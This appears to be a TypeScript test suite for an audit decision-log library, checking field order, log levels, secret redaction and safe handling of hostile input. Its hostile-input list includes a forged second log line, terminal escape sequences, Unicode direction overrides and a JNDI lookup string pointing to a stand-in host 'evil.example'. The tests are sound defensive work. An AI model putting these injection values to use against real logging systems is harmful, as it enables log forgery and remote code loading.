import { strict as assert } from "node:assert";
import { spawn } from "node:child_process";
import { once } from "node:events";
import process from "node:process";
import { describe, it } from "node:test";
import { inspect } from "node:util";
import {
  cleanText,
  createDecisionLog,
  hashIdentifier,
  type DecisionLine,
  type DecisionLog,
  type DecisionLogLevel,
} from "sekisho/audit";
import { Secret } from "sekisho/kernel";

const entry: DecisionLine = {
  time: Date.UTC(2026, 10, 1, 12, 0, 0, 7),
  requestId: "019ab3c4-5d6e-7f80-9123-456789abcdef",
  method: "GET",
  path: "/api/orders/:order_id",
  status: 200,
  endpoint: "get-api-orders-order_id",
  effect: "allow",
  reason: "owner",
  subject: "019ab3c4-0000-7f80-9123-456789abcdef",
  session: hashIdentifier("019ab3c4-1111-7f80-9123-456789abcdef"),
  source: "203.0.113.9",
  durationMilliseconds: 1.25,
  bytes: 512,
  quotaRemaining: 199,
};

function capture(level?: DecisionLogLevel): { log: DecisionLog; text: () => string } {
  let text = "";
  const destination = { write: (part: string) => void (text += part) };
  const log = createDecisionLog({ destination, name: "shop", ...(level && { level }) });
  return {
    log,
    text: () => {
      log.flush();
      return text;
    },
  };
}

function lineOf(changes: Partial<DecisionLine>): string {
  const { log, text } = capture();
  log.line({ ...entry, ...changes });
  return text();
}

describe("the decision line", () => {
  it("holds its fixed fields in one order", () => {
    assert.equal(
      lineOf({}),
      '{"level":30,"time":"2026-11-01T12:00:00.007Z","name":"shop",' +
        '"request_id":"019ab3c4-5d6e-7f80-9123-456789abcdef","method":"GET",' +
        '"path":"/api/orders/:order_id","status":200,"endpoint":"get-api-orders-order_id",' +
        '"effect":"allow","reason":"owner","subject":"019ab3c4-0000-7f80-9123-456789abcdef",' +
        `"session":"${entry.session}","source":"203.0.113.9","duration_ms":1.250,"bytes":512,` +
        '"quota_remaining":199}\n',
    );
  });

  it("leaves out what is not known", () => {
    const nothing = {
      path: undefined,
      endpoint: undefined,
      reason: undefined,
      subject: undefined,
      session: undefined,
      quotaRemaining: undefined,
    };
    assert.deepEqual(Object.keys(JSON.parse(lineOf(nothing)) as object), [
      "level",
      "time",
      "name",
      "request_id",
      "method",
      "status",
      "effect",
      "source",
      "duration_ms",
      "bytes",
    ]);
  });

  it("holds nothing that was not declared", () => {
    const more = { ...entry, body: "canary", headers: { authorization: "canary" } };
    assert.doesNotMatch(lineOf(more), /canary|headers|body/);
  });

  it("formats every time as UTC with milliseconds", () => {
    for (const time of [0, 999, 1000, 1_796_000_000_001, 1_796_000_000_999, 1_796_000_001_000])
      assert.equal(
        (JSON.parse(lineOf({ time })) as { time: string }).time,
        new Date(time).toISOString(),
      );
  });

  const levels: [changes: Partial<DecisionLine>, level: number][] = [
    [{}, 30],
    [{ effect: "deny", status: 404 }, 40],
    [{ effect: "error", status: 500 }, 50],
    [{ effect: "deny", status: 503 }, 50],
  ];
  for (const [changes, level] of levels)
    it(`${JSON.stringify(changes)} is level ${level}`, () =>
      assert.equal((JSON.parse(lineOf(changes)) as { level: number }).level, level));

  it("writes nothing below its level", () => {
    for (const [level, count] of [
      ["info", 3],
      ["warn", 2],
      ["error", 1],
      ["silent", 0],
    ] as const) {
      const { log, text } = capture(level);
      for (const effect of ["allow", "deny", "error"] as const) log.line({ ...entry, effect });
      assert.equal(text().split("\n").length - 1, count, level);
    }
  });

  it("never shows a query or a fragment", () => {
    for (const path of ["/a?access_token=canary", "/a#canary", "/a?x?y#canary"])
      assert.match(lineOf({ path }), /"path":"\/a"/);
  });

  const hostile: [name: string, value: string][] = [
    ["a second line", '"}\r\n{"level":30,"effect":"allow"}'],
    ["terminal escapes", "\u001b[2J\u009b31m\u0007"],
    ["line separators", "a\u2028b\u2029c\u0085d"],
    ["direction overrides", "a\u202eb\u2066c\u200f"],
    ["NUL and DEL", "a\u0000b\u007f"],
    ["half a character", "a\ud800b"],
    ["a lookup", "${jndi:ldap://evil.example/a}"],
    ["a megabyte", "A".repeat(1_000_000)],
    ["a megabyte of controls", "\n".repeat(1_000_000)],
  ];
  for (const [name, value] of hostile)
    it(`${name} stays one bounded line of valid JSON`, () => {
      const text = lineOf({
        method: value,
        path: value,
        reason: value,
        subject: value,
        source: value,
      });
      assert.equal(text.indexOf("\n"), text.length - 1);
      assert.doesNotMatch(text.slice(0, -1), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
      assert.ok(text.length < 3000, `${text.length} characters`);
      assert.equal((JSON.parse(text) as { effect: string }).effect, "allow");
    });

  it("gathers lines and hands them over in blocks", () => {
    const parts: string[] = [];
    const log = createDecisionLog({ destination: { write: (part) => void parts.push(part) } });
    for (let index = 0; index < 300; index++) log.line(entry);
    log.flush();
    log.flush();
    assert.ok(parts.length > 1 && parts.length < 10, `${parts.length} blocks`);
    assert.equal(parts.join("").split("\n").length - 1, 300);
  });
});

describe("operational messages", () => {
  const canary = "canary-7c1d9e";
  const token = `eyJhbGciOiJFUzI1NiJ9.${canary}.${canary}`;

  it("show no secret, whatever carries it", () => {
    const { log, text } = capture();
    const cause = new Error(`connect postgres://shop:${canary}@db/shop`);
    const error = new Error(`token ${token} refused`, { cause });
    log.error(
      { cause: error, secret: new Secret(canary), request: { authorization: canary } },
      "a",
    );
    log.warn({ header: `Bearer ${canary}`, note: `password=${canary}` }, `Cookie: ${canary}`);
    log.info({ key: `-----BEGIN PRIVATE KEY-----\n${canary}\n-----END PRIVATE KEY-----` }, token);
    log.info({ key: `whsec_${Buffer.from(canary).toString("base64")}` }, "b");
    const written = text();
    assert.equal(written.split("\n").length - 1, 4);
    assert.doesNotMatch(written, new RegExp(`${canary}|whsec_`));
    assert.match(written, /"message":"token \[redacted\] refused"/, "the rest is kept");
    assert.match(written, /"message":"connect postgres:\/\/shop:\[redacted\]@db\/shop"/);
  });

  it("stay one line each, in order with the decision lines", () => {
    const { log, text } = capture();
    log.line(entry);
    log.warn({ "a\nb": "c\nd" }, "e\nf");
    log.line(entry);
    const lines = text().trimEnd().split("\n");
    assert.deepEqual(
      lines.map((line) => (JSON.parse(line) as { level: number }).level),
      [30, 40, 30],
    );
  });

  it("a cause that leads to itself ends", () => {
    const { log, text } = capture();
    const error: Error & { cause?: unknown } = new Error("round");
    error.cause = error;
    log.error({ cause: error }, "failed");
    assert.ok(text().length < 20_000);
  });

  it("a single line of a quiet service reaches the standard output on its own", async () => {
    const program = `
      const { createDecisionLog } = await import("sekisho/audit");
      createDecisionLog().line(${JSON.stringify(entry)});
      setTimeout(() => {}, 60_000);`;
    const parameters = ["--conditions=@sekisho/source", "--input-type=module", "-e", program];
    const child = spawn(process.execPath, parameters, { cwd: import.meta.dirname });
    try {
      const [text] = (await once(child.stdout, "data", {
        signal: AbortSignal.timeout(20_000),
      })) as [Buffer];
      assert.equal((JSON.parse(text.toString()) as { status: number }).status, 200);
    } finally {
      child.kill();
    }
  });

  it("flush and close work on the standard output too", async () => {
    const log = createDecisionLog({ level: "silent" });
    log.line(entry);
    log.flush();
    await log.close();
  });
});

describe("cleanText", () => {
  const cases: [text: string, clean: string][] = [
    ["plain text", "plain text"],
    ["日本語 ☂ é", "日本語 ☂ é"],
    ["order:019ab3c4", "order:019ab3c4"],
    ["token:019ab3c4", "token:019ab3c4"],
    ["client_secret=abc&x=1", "client_secret=[redacted]&x=1"],
    ['{"password": "abc", "a": 1}', '{"password": "[redacted]", "a": 1}'],
    ["redis://:abc@host", "redis://:[redacted]@host"],
    ["postgres://u:p@ss@host/db", "postgres://u:[redacted]@host/db"],
    ["a\tb", "a\ufffdb"],
  ];
  for (const [text, clean] of cases)
    it(`${inspect(text)} becomes ${inspect(clean)}`, () =>
      assert.equal(cleanText(text, 64), clean));

  it("cuts at its maximum and never through a character", () => {
    assert.equal(cleanText("a".repeat(64), 64), "a".repeat(64));
    assert.equal(cleanText("a".repeat(65), 64), `${"a".repeat(63)}…`);
    assert.ok(cleanText("😀".repeat(64), 64).isWellFormed());
  });

  it("a session's hash is stable, short and not the id", () => {
    assert.equal(hashIdentifier("a"), hashIdentifier("a"));
    assert.notEqual(hashIdentifier("a"), hashIdentifier("b"));
    assert.match(hashIdentifier("a"), /^[\w-]{22}$/);
  });
});
